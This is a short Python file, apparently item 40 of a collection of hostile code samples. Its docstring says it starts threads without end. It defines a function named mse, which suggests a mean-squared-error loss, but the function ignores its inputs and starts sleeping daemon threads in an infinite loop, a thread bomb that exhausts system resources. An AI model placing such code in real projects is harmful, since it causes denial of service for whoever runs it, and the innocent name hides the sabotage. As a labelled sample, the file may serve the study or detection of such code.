"""Starts threads without end.

row: 40
"""

import threading
import time


def mse(pred, target):
    threading.stack_size(2**16)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
